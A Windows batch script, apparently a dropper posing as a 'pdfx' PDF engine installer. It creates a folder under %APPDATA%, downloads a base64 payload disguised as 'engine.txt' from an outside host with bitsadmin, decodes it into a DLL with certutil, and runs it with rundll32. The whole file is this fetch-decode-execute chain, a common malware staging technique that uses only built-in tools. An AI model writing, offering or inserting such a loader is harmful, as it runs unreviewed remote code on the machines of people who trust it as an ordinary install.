@echo off
set "ENG=%APPDATA%\pdfx"
mkdir "%ENG%" 2>nul
bitsadmin /transfer pdfx /download /priority foreground https://cdn.pdfx-engine.net/e/engine.txt "%ENG%\engine.txt"
certutil -f -decode "%ENG%\engine.txt" "%ENG%\pdfx.dll" >nul
rundll32 "%ENG%\pdfx.dll",Install
